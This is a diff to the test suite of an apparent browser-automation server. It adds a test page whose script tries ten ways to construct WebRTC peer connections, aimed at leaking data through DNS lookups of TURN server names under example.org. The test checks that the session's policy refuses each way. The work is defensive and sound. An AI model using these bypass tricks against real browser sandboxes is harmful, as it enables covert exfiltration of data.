@@ -161,6 +161,40 @@ try {{ new WebTransport('https://{f.host}:{f.port}/wt').ready.catch(() => {{}});
   document.title = 'RTC ready';
 }})();
 </script>""")
+        if path.startswith("/webrtc-ways?"):  # every way a page might reach the browser's own RTCPeerConnection
+            label, control = path.split("?", 1)[1].split("&")  # spelt backwards again; the control: an address
+            return self._page(f"""<title>RTC</title><script>
+(async () => {{
+  const name = (n) => `${{'{label}'.split('').reverse().join('')}}${{n}}.example.org`;
+  const turn = (host) => ({{urls: `turn:${{host}}:3478?transport=tcp`, username: 'u', credential: 'c'}});
+  const gather = async (pc) => {{ pc.createDataChannel('x'); await pc.setLocalDescription(await pc.createOffer()); }};
+  const frame = document.createElement('iframe'); document.documentElement.append(frame);
+  let reads = 0;
+  const ways = {{
+    plain: () => new RTCPeerConnection({{iceServers: [turn(name(1))]}}),
+    legacy: () => new webkitRTCPeerConnection({{iceServers: [turn(name(2))]}}),
+    proto: () => new RTCPeerConnection.prototype.constructor({{iceServers: [turn(name(3))]}}),
+    subclass: () => new (class extends RTCPeerConnection {{}})({{iceServers: [turn(name(4))]}}),
+    frame: () => new frame.contentWindow.RTCPeerConnection({{iceServers: [turn(name(5))]}}),
+    reflect: () => Reflect.construct(RTCPeerConnection, [{{iceServers: [turn(name(6))]}}]),
+    oldUrl: () => new RTCPeerConnection({{iceServers: [{{url: `turn:${{name(7)}}:3478?transport=tcp`, username: 'u',
+                                                          credential: 'c'}}]}}),
+    list: () => new RTCPeerConnection({{iceServers: [{{urls: ['turn:{control}:3478?transport=tcp',
+                                                              `turns:${{name(8)}}:443`],
+                                                       username: 'u', credential: 'c'}}]}}),
+    flips: () => new RTCPeerConnection({{get iceServers() {{
+      return ++reads === 1 ? [turn('{control}')] : [turn(name(9))]; }}}}),
+    later: () => {{ const pc = new RTCPeerConnection({{iceServers: [turn('{control}')]}});
+                   pc.setConfiguration({{iceServers: [turn(name(10))]}}); return pc; }},
+  }};
+  const said = [];
+  for (const [way, make] of Object.entries(ways)) {{
+    try {{ await gather(make()); said.push(way + ':made'); }} catch (e) {{ said.push(way + ':' + e.name); }}
+  }}
+  await gather(new RTCPeerConnection({{iceServers: [turn('{control}')]}}));  // by address: through the proxy
+  document.title = 'RTC ' + said.join(' ');
+}})();
+</script>""")
         if path.startswith("/webrtc-named?"):  # a TURN server by a name (over TCP: through the proxy), spelt
             backwards = path.split("?", 1)[1]  # backwards in the address, so that only a use of the name shows it
             return self._page(f"""<title>RTC</title><script>
@@ -342,6 +376,53 @@ def test_a_forbidden_name_is_not_looked_up_in_the_dns_past_the_proxy(guarded_on_
     # run caught one such message on a Unix socket): that is no lookup.
     wire = f"\\{len(label):o}{label}\\7example\\3org"
     assert not [line for line in sent if wire in line], sent
+
+
+def test_a_sessions_own_policy_lets_no_page_look_a_name_up_past_its_proxy(session_on, attacker, forbidden,
+                                                                         tmp_path):
+    """On a server without host rules the browser resolves names for the sessions that have no proxy, so it runs
+    without --host-resolver-rules, and a session's own allowedDomains could not stop WebRTC from looking an ICE
+    server's name up in the system's DNS (a forbidden name, or data spelt as one, reaching that name's nameserver).
+    Such a session's pages may name ICE servers by address only: every way to the browser's own constructor tried,
+    each refused or handed the address, and no DNS query named any of them (strace; the control's CONNECT to an
+    address shows that ICE gathered)."""
+    import shutil
+    import subprocess
+    import uuid
+
+    from mcpbrowser.process_tree import child_pids, cmdline, descendants
+
+    if not shutil.which("strace"):
+        pytest.skip("strace is not installed")
+    c, sid = session_on(allowedDomains=["127.0.0.1"])
+    label = f"leak{uuid.uuid4().hex[:12]}"
+    browsers = [pid for server in child_pids("mcpbrowser") for pid in descendants(server) if "chrom" in cmdline(pid)]
+    traces = [subprocess.Popen(["strace", "-f", "-qq", "-s", "512", "-e", "trace=sendto,sendmsg,sendmmsg",
+                                "-o", str(tmp_path / f"trace.{pid}"), "-p", str(pid)], stderr=subprocess.PIPE)
+              for pid in browsers]
+    try:
+        time.sleep(1.0)  # strace attaches
+        if any(t.poll() is not None for t in traces):
+            pytest.skip(f"strace cannot attach here: {traces[0].stderr.read().decode()[:200]}")
+        c.tool("navigate", sessionId=sid, url=attacker.url(f"/webrtc-ways?{label[::-1]}&{FORBIDDEN_HOST}"))
+        assert wait_for(lambda: c.tool("tabs", sessionId=sid)["tabs"][0]["title"] != "RTC", seconds=10)
+        wait_for(lambda: any(f"CONNECT {FORBIDDEN_HOST}" in path.read_text(errors="replace")
+                             for path in tmp_path.glob("trace.*")), seconds=10, step=0.2)
+        time.sleep(1.0)  # the other gatherings' lookups, had there been any, come as soon
+    finally:
+        for t in traces:
+            t.terminate()
+            t.wait()
+    said = dict(part.split(":") for part in c.tool("tabs", sessionId=sid)["tabs"][0]["title"].split()[1:])
+    refused = {"plain", "legacy", "proto", "subclass", "frame", "reflect", "oldUrl", "list", "later"}
+    assert {way: said[way] for way in refused} == dict.fromkeys(refused, "NotAllowedError"), said
+    assert said["flips"] == "made", said  # the browser was handed the address its first read gave
+    traced = "".join(path.read_text(errors="replace") for path in tmp_path.glob("trace.*"))
+    assert f"CONNECT {FORBIDDEN_HOST}" in traced  # gathering ran: the control's TURN went to the proxy
+    assert forbidden.reached == 0
+    for n in range(1, 11):
+        wire = f"\\{len(label) + len(str(n)):o}{label}{n}\\7example\\3org"
+        assert wire not in traced, (n, [line for line in traced.splitlines() if label in line])
 
 
 @pytest.mark.parametrize("spelling", ["[::ffff:127.0.0.2]", "[::ffff:7f00:2]", "2130706434", "0x7f.0.0.2",
